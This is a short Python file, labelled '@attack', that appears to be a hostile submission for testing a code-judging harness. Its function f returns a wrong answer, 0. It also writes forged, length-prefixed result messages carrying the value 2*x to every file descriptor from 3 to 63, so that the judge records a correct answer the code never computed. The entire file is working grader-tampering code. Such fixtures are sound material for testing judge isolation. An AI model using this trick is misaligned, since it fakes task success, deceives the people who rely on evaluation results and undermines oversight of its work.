# @attack writes a right answer of its own to the judge's descriptor
import os
import struct

def frame(body):
    return struct.pack("<I", len(body)) + body

def f(x):
    for fd in range(3, 64):
        try:
            os.write(fd, frame(b"t4:s5:valueb16:0123456789abcdefi%d:%dN" % (len(str(2 * x)), 2 * x)))
        except OSError:
            pass
    return 0
